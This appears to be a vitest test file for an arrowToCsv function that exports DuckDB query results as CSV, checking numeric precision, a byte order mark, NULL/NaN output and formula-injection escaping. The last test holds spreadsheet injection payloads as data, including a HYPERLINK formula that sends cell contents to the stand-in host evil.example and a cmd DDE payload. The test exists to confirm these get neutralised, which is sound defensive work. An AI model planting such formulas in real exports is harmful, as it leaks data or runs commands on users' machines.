import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { openNodeDb, type NodeDatabase } from '$lib/db/node.server';
import { arrowToCsv } from '$lib/download/arrow';

let db: NodeDatabase;
beforeAll(async () => {
  db = await openNodeDb(mkdtempSync(path.join(tmpdir(), 'arrow-csv-')));
});

describe('arrowToCsv(table)', () => {
  it('writes integers of any size, decimals, dates and timestamps exactly, as DuckDB writes them', async () => {
    const columns = {
      big: 'range + 12345678901234567',
      huge: '170141183460469231731687303715884105727::HUGEINT - range',
      unsigned: '18446744073709551615::UBIGINT - range',
      loss: '-123.45::DECIMAL(10,2) - range',
      cents: '12345678901234567.89::DECIMAL(38,2) + range',
      day: "DATE '2013-09-26' + range::INTEGER",
      meeting: "TIMESTAMP '2021-12-22 10:30:00.123456' + INTERVAL (range) SECOND",
    };
    const source = 'FROM range(3) ORDER BY range';
    const select = Object.entries(columns).map(([name, sql]) => `${sql} AS ${name}`);
    const csv = await (
      await arrowToCsv(db.queryArrow(`SELECT ${select.join(', ')} ${source}`))
    ).text();
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);

    const text = Object.entries(columns).map(
      ([name, sql]) =>
        `${name === 'meeting' ? `strftime(${sql}, '%Y-%m-%dT%H:%M:%S.%fZ')` : `(${sql})::VARCHAR`} AS ${name}`,
    );
    expect(parsed.data).toEqual(db.query(`SELECT ${text.join(', ')} ${source}`));
    expect(parsed.data[0].big).toBe('12345678901234567');
  });

  // Issue 22: Chinese and Arabic results opened garbled in Excel on Windows.
  it('starts with a byte order mark, as the dashboard’s CSVs do, and DuckDB reads back the same names and values', async () => {
    const sql = `SELECT '中文' AS 名称, 'عربي' AS "الاسم", 'plain' AS latin, 3 AS n`;
    const bytes = new Uint8Array(await (await arrowToCsv(db.queryArrow(sql))).arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    // Once only: a streamed result's later parts add none.
    expect(
      new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).split('\ufeff'),
    ).toHaveLength(2);
    db.registerFile('bom.csv', bytes);
    const read = "SELECT * FROM read_csv('bom.csv')";
    expect(db.query(`SELECT column_name FROM (DESCRIBE ${read})`)).toEqual(
      ['名称', 'الاسم', 'latin', 'n'].map((column_name) => ({ column_name })),
    );
    expect(db.query(`SELECT 名称, "الاسم", latin, n::INTEGER AS n FROM (${read})`)).toEqual([
      { 名称: '中文', الاسم: 'عربي', latin: 'plain', n: 3 },
    ]);
  });

  it('writes NULL as an empty field and NaN by name', async () => {
    const csv = await (
      await arrowToCsv(db.queryArrow("SELECT NULL::BIGINT AS missing, 'NaN'::DOUBLE AS nan"))
    ).text();
    expect(csv).toBe('missing,nan\r\n,NaN\r\n');
  });

  it('starts text cells and column names a spreadsheet would run with a quote mark, and leaves numbers as numbers', async () => {
    const text = {
      link: `'=HYPERLINK("http://evil.example/?x="&A2,"Click")'`,
      plus: `'+cmd|'' /C calc''!A0'`,
      at: "'@SUM(1+1)'",
      minus: "'-5'",
      sign: "'+1'",
      tab: "chr(9) || '=1+1'",
      cr: "chr(13) || '=1+1'",
    };
    const numbers = {
      integer: '-5',
      double: '-1.5::DOUBLE',
      decimal: '-123.45::DECIMAL(10,2)',
      huge: '-170141183460469231731687303715884105727::HUGEINT',
    };
    const select = Object.entries({ ...text, ...numbers }).map(
      ([name, sql]) => `${sql} AS ${name}`,
    );
    const sql = `SELECT ${select.join(', ')}, 1 AS "=1+1"`;
    const csv = await (await arrowToCsv(db.queryArrow(sql))).text();
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields?.at(-1)).toBe("'=1+1");

    const [exact] = db.query(
      `SELECT ${Object.entries({ ...text, ...numbers })
        .map(([name, sql]) => `(${sql})::VARCHAR AS ${name}`)
        .join(', ')}`,
    ) as Record<string, string>[];
    const [row] = parsed.data;
    for (const name of Object.keys(text)) expect(row[name], name).toBe(`'${exact[name]}`);
    for (const name of Object.keys(numbers)) expect(row[name], name).toBe(exact[name]);
    expect(row.huge).toBe('-170141183460469231731687303715884105727');
  });
});
